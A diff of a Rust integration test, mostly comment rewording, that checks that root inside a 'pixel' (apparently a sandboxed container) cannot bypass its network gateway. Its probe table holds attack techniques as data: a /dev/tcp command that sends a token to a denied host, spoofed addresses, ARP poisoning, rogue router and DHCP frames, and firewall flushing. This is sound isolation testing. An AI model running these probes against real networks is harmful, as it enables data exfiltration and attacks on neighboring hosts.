@@ -1,8 +1,8 @@
-//! Attempts by root inside a pixel to get something past its gateway. An
-//! attempt has succeeded when something came back, or when anything of it
-//! arrived anywhere: outside, on the host, or at a neighbour. Those that a
-//! pixel without walls would succeed with are made from one as well, so that
-//! an attempt that cannot succeed does not count as a wall.
+//! Attempts by root in a pixel to bypass the gateway. An attempt succeeds if
+//! the pixel receives an answer, or if a packet arrives outside, on the host or
+//! at a neighbor. Attempts marked `open` are repeated from a pixel on an
+//! external network, where they must succeed: an attempt that fails everywhere
+//! proves nothing.
 
 use std::collections::BTreeSet;
 use std::fmt::Display;
@@ -19,25 +19,25 @@ use crate::support::wan;
 
 const PROBE: &str = include_str!("support/probe.pl");
 
-/// Everything an attempt may be aimed at.
+/// The addresses and ports that attempts use.
 struct Targets {
     own: Place,
     neighbour: Place,
     gateway: Place,
-    /// The gateway's address outside.
+    /// The gateway's address on the external network.
     uplink: String,
-    /// The host's bridge: its hardware address, and a port it listens on.
+    /// The hardware address of the host's bridge.
     bridge_mac: String,
     host: String,
     host_port: u16,
-    /// The resolver of the neighbour's policy.
+    /// The port of the resolver for the neighbor's policy.
     resolver: u16,
-    /// An address that a destroyed, unrestricted pixel had.
+    /// The address of a destroyed, unrestricted pixel.
     former: String,
 }
 
 impl Targets {
-    /// Replaces the words of a row. A word comes before those that it contains.
+    /// Replaces the placeholders of a row. Longer placeholders are replaced first.
     fn fill(&self, row: &str) -> String {
         let connect = "timeout 2 bash -c \
                        'exec 3<>/dev/tcp/DENIED/443 && echo $TOKEN >&3 && head -n 1 <&3'";
@@ -70,7 +70,7 @@ struct Attempt {
     name: &'static str,
     /// Verb and arguments of the probe.
     line: &'static str,
-    /// A pixel on the open network succeeds with it.
+    /// The attempt succeeds on an external network.
     open: bool,
 }
 
@@ -85,7 +85,7 @@ fn attempts() -> Vec<Attempt> {
     ATTEMPTS.iter().map(|row| parse(row)).collect()
 }
 
-/// Sees what arrives at an interface, from inside a pixel.
+/// Records all packets at the interface of a pixel.
 struct Witness {
     child: Child,
     seen: Arc<Mutex<String>>,
@@ -106,7 +106,7 @@ impl Witness {
             }
         });
         let witness = Self { child, seen };
-        eventually("the witness looks", || witness.saw("witness ready"));
+        eventually("the witness is ready", || witness.saw("witness ready"));
         witness
     }
 
@@ -122,7 +122,7 @@ impl Drop for Witness {
     }
 }
 
-/// What connects to the host.
+/// Records what the host's listener receives.
 struct Host {
     port: u16,
     seen: Arc<Mutex<String>>,
@@ -152,14 +152,14 @@ impl Host {
     }
 }
 
-/// Each row: whether a pixel on the open network succeeds with it, its name, and
-/// the verb and arguments of the probe with the words of [`Targets::fill`].
+/// Rows `KIND | NAME | PROBE`. KIND is `open` if a pixel on an external network succeeds. PROBE
+/// is a verb with arguments; see [`Targets::fill`] for placeholders.
 const ATTEMPTS: &[&str] = &[
-    // Straight out.
+    // Direct connections.
     "open | a raw address | tcp DENIED 443",
     "open | a raw address, UDP | udp DENIED 4433",
     "open | a raw address, QUIC's port | udp DENIED 443",
-    "open | an address a neighbour has learned | tcp DENIED 80",
+    "open | an address that the neighbor's policy allows | tcp DENIED 80",
     "open | the clock | udp DENIED 123",
     "open | source port 22 | tcp DENIED 443 22",
     "open | source port 53 | udp DENIED 4433 53",
@@ -172,8 +172,8 @@ const ATTEMPTS: &[&str] = &[
     "open | ESP | proto 50 DENIED",
     "open | IP in IP | proto 4 DENIED",
     "open | SCTP | proto 132 DENIED",
-    "open | a protocol without a name | proto 253 DENIED",
-    "open | a port of an allowed host that is not | tcp 198.51.100.21 80",
+    "open | an unassigned protocol | proto 253 DENIED",
+    "open | a denied port of an allowed host | tcp 198.51.100.21 80",
     // Names.
     "open | another resolver | dns OTHER TOKEN.other.test",
     "open | another resolver, TCP | dns OTHER TOKEN.other.test A tcp",
@@ -188,18 +188,18 @@ const ATTEMPTS: &[&str] = &[
     "open | the name server of the internet | dns 198.51.100.53 TOKEN.test",
     "isolated | the host's resolver | dns HOST other.test",
     "isolated | the gateway's upstream side | dns UPLINK other.test",
-    "isolated | the neighbour's resolver | dns GATEWAY other.test A udp RESOLVER_PORT",
-    "isolated | the neighbour's resolver, TCP | dns GATEWAY other.test A tcp RESOLVER_PORT",
+    "isolated | the neighbor's resolver | dns GATEWAY other.test A udp RESOLVER_PORT",
+    "isolated | the neighbor's resolver, TCP | dns GATEWAY other.test A tcp RESOLVER_PORT",
     "open | DNS over TLS | tcp OTHER 853",
     "open | DNS over HTTPS | tcp OTHER 443",
     "open | DNS on another port | udp OTHER 65000",
-    // The host and what is near it.
+    // The host and its services.
     "open | the host | tcp HOST HOST_PORT",
     "isolated | the host's other address | tcp 198.51.100.254 80",
     "open | ping of the host | icmp HOST",
     "open | the metadata service | tcp 169.254.169.254 80",
-    "isolated | the gateway's address outside | tcp UPLINK 22",
-    "isolated | ping of the gateway outside | icmp UPLINK",
+    "isolated | the external address of the gateway | tcp UPLINK 22",
+    "isolated | ping of the gateway's external address | icmp UPLINK",
     "isolated | SSH to the gateway | tcp GATEWAY 22",
     "isolated | ping of the gateway | icmp GATEWAY",
     "isolated | port 67 of the gateway | tcp GATEWAY 67",
@@ -211,41 +211,41 @@ const ATTEMPTS: &[&str] = &[
     "isolated | a route by the host's VLAN | tagged BRIDGE_MAC OWN_MAC OWN DENIED 1",
     "isolated | the host's resolver, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN HOST 53",
     "isolated | the host, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN 198.51.100.254 4433",
-    "isolated | everything to all hosts, by broadcast | spoof BROADCAST OWN_MAC OWN DENIED 4433",
+    "isolated | a broadcast frame to a denied address | spoof BROADCAST OWN_MAC OWN DENIED 4433",
     "open | the broadcast address | udp 255.255.255.255 4433",
     "isolated | a broadcast outside | udp 198.51.100.255 4433",
     "open | multicast | udp 239.1.1.1 4433",
     "open | multicast DNS | udp 224.0.0.251 5353",
-    // With another sender's address. The neighbor may reach DENIED.
-    "isolated | the neighbour's address | spoof GATEWAY_MAC OWN_MAC NEIGHBOUR DENIED 4433",
-    "isolated | the neighbour's hardware address too \
+    // Spoofed sender addresses. The neighbor may reach DENIED.
+    "isolated | the neighbor's address | spoof GATEWAY_MAC OWN_MAC NEIGHBOUR DENIED 4433",
+    "isolated | the neighbor's hardware address too \
      | spoof GATEWAY_MAC NEIGHBOUR_MAC NEIGHBOUR DENIED 4433",
     "isolated | the gateway's address | spoof GATEWAY_MAC OWN_MAC GATEWAY DENIED 4433",
     "isolated | the gateway's own hardware address \
      | spoof GATEWAY_MAC GATEWAY_MAC GATEWAY DENIED 4433",
-    "isolated | an address without a host | spoof GATEWAY_MAC OWN_MAC 10.0.0.7 DENIED 4433",
-    "isolated | an address outside | spoof GATEWAY_MAC OWN_MAC 198.51.100.77 DENIED 4433",
+    "isolated | an unused address | spoof GATEWAY_MAC OWN_MAC 10.0.0.7 DENIED 4433",
+    "isolated | an external address | spoof GATEWAY_MAC OWN_MAC 198.51.100.77 DENIED 4433",
     "isolated | the host's address | spoof GATEWAY_MAC OWN_MAC HOST DENIED 4433",
     "isolated | the address of a destroyed pixel | spoof GATEWAY_MAC OWN_MAC FORMER DENIED 4433",
     "isolated | loopback | spoof GATEWAY_MAC OWN_MAC 127.0.0.1 DENIED 4433",
     "isolated | a source route over an allowed host \
      | spoof GATEWAY_MAC OWN_MAC OWN ALLOWED 4433 8307c633641400",
-    // To the neighbour.
-    "open | the neighbour | udp NEIGHBOUR 4433",
-    "isolated | the neighbour by the gateway | spoof GATEWAY_MAC OWN_MAC OWN NEIGHBOUR 4433",
-    "open | the neighbour's own hardware address | spoof NEIGHBOUR_MAC OWN_MAC OWN NEIGHBOUR 4433",
-    "open | a frame of no protocol | frame NEIGHBOUR_MAC OWN_MAC 88b5",
-    "open | a frame of no protocol by broadcast | frame BROADCAST OWN_MAC 88b5",
+    // Packets to the neighbor.
+    "open | the neighbor | udp NEIGHBOUR 4433",
+    "isolated | the neighbor by the gateway | spoof GATEWAY_MAC OWN_MAC OWN NEIGHBOUR 4433",
+    "open | the neighbor's own hardware address | spoof NEIGHBOUR_MAC OWN_MAC OWN NEIGHBOUR 4433",
+    "open | a frame with a local EtherType | frame NEIGHBOUR_MAC OWN_MAC 88b5",
+    "open | a broadcast frame with a local EtherType | frame BROADCAST OWN_MAC 88b5",
     "open | a tagged frame | frame NEIGHBOUR_MAC OWN_MAC 8100 000188b5",
-    "open | ARP poisoning of the neighbour \
+    "open | ARP poisoning of the neighbor \
      | arp NEIGHBOUR_MAC OWN_MAC 2 OWN_MAC GATEWAY NEIGHBOUR_MAC NEIGHBOUR",
-    "open | an ARP request for the neighbour \
+    "open | an ARP request for the neighbor \
      | arp BROADCAST OWN_MAC 1 OWN_MAC OWN 00:00:00:00:00:00 NEIGHBOUR",
     "isolated | ARP as the gateway \
      | arp BROADCAST GATEWAY_MAC 2 GATEWAY_MAC GATEWAY BROADCAST NEIGHBOUR",
     "open | a rogue router | frame 33:33:00:00:00:01 OWN_MAC 86dd 6000000000143aff\
      fe800000000000000000000000000001ff0200000000000000000000000000018600000040000708",
-    "isolated | IPv6 to the neighbour \
+    "isolated | IPv6 to the neighbor \
      | sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) \
      ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' \
      | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')",
@@ -253,14 +253,14 @@ const ATTEMPTS: &[&str] = &[
      ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1",
     // DHCP.
     "isolated | a second lease | dhcp OWN_MAC 1 02:00:00:00:00:77",
-    "isolated | the neighbour's lease | dhcp OWN_MAC 1 NEIGHBOUR_MAC",
+    "isolated | the neighbor's lease | dhcp OWN_MAC 1 NEIGHBOUR_MAC",
     "isolated | a lease by another's hardware address | dhcp NEIGHBOUR_MAC 1 NEIGHBOUR_MAC",
-    "isolated | declining the neighbour's address \
+    "isolated | declining the neighbor's address \
      | dhcp OWN_MAC 4 NEIGHBOUR_MAC 0.0.0.0 0.0.0.0 0.0.0.0 NEIGHBOUR",
-    "isolated | an answer sent to the neighbour | dhcp OWN_MAC 8 OWN_MAC OWN NEIGHBOUR",
+    "isolated | an answer sent to the neighbor | dhcp OWN_MAC 8 OWN_MAC OWN NEIGHBOUR",
     "isolated | an answer sent by a relay | dhcp OWN_MAC 1 OWN_MAC 0.0.0.0 0.0.0.0 NEIGHBOUR",
     "open | a rogue server | spoof BROADCAST OWN_MAC OWN 255.255.255.255 68",
-    // With root's tools. Each puts things back.
+    // Changes with root's tools. Each probe restores the previous state.
     "open | a flushed ruleset | sh nft flush ruleset; iptables -F; CONNECT",
     "isolated | a network of one's own \
      | sh ip link add t-mv link eth0 type macvlan mode bridge; ip link set t-mv up; \
@@ -283,7 +283,7 @@ const ATTEMPTS: &[&str] = &[
     "isolated | a device of the host | sh ls /dev/kmsg /dev/mem /dev/sda",
 ];
 
-/// Makes all of them and returns those that succeeded, each with how.
+/// Makes all attempts. Returns the successful ones with the reason.
 fn succeeded(
     walls: &Walls,
     env: &TestEnv,
@@ -315,7 +315,7 @@ fn succeeded(
         let ways = [
             (rest.starts_with(" got "), rest.trim_start()),
             (walls.wan.saw(&token), "seen outside"),
-            (at_neighbour.saw(&token), "seen by the neighbour"),
+            (at_neighbour.saw(&token), "seen by the neighbor"),
             (host.saw(&token), "seen by the host"),
         ];
         let ways = ways.into_iter().filter(|(succeeded, _)| *succeeded);
@@ -351,7 +351,7 @@ fn root_in_pixel_cannot_bypass_gateway() {
     let d = walls.create("d", "unrestricted", &[]);
     let former = walls.place(&d).address;
     walls.env.pixels(["destroy", "--force", &d]).ok();
-    // What is allowed works, and so does the neighbour's.
+    // Allowed hosts are reachable from this pixel and from the neighbor.
     walls.comes_to_reach(&a, "allowed.test", 443);
     walls.comes_to_reach(&a, "ported.test", 443);
     walls.comes_to_reach(&b, "other.test", 80);
@@ -368,7 +368,7 @@ fn root_in_pixel_cannot_bypass_gateway() {
     let element = format!("inet pixels resolvers {{ {} }}", neighbour.address);
     let get = ["nft", &format!("get element {element}")];
     let ports = walls.server.run(&walls.gateway_name(), &get);
-    // The only word that is a number.
+    // The port is the only word that is a number.
     let port = ports.split_whitespace().find_map(|word| word.parse().ok());
     let resolver = port.unwrap_or_else(|| panic!("no port in {ports}"));
     let to = Targets {
@@ -388,20 +388,20 @@ fn root_in_pixel_cannot_bypass_gateway() {
     let found = succeeded(&walls, &walls.env, &a, &to, &all, &witness, &host);
     assert!(found.is_empty(), "{found:#?}");
 
-    // Nothing has harmed the neighbour, or this pixel itself.
+    // Neither the neighbor nor this pixel is damaged.
     drop(witness);
     walls.comes_to_reach(&b, "other.test", 80);
     walls.comes_to_reach(&a, "allowed.test", 443);
     walls.env.pixels(["stop", &b]).ok();
     walls.env.pixels(["start", &b]).ok();
-    eventually("the neighbour has its address", || {
+    eventually("the neighbor is reachable again", || {
         walls.reaches(&b, "other.test", 80)
     });
 
     open_pixels_succeed(&walls, &host);
 }
 
-/// The same from a pixel without walls.
+/// Repeats the attempts from a pixel on an external network.
 fn open_pixels_succeed(walls: &Walls, host: &Host) {
     walls.wan.forget();
     let env = walls.open("esco");
@@ -444,6 +444,6 @@ fn open_pixels_succeed(walls: &Walls, host: &Host) {
         .collect();
     assert!(
         idle.is_empty(),
-        "these prove nothing, they fail without walls too: {idle:#?}"
+        "these attempts prove nothing, they fail without a gateway too: {idle:#?}"
     );
 }
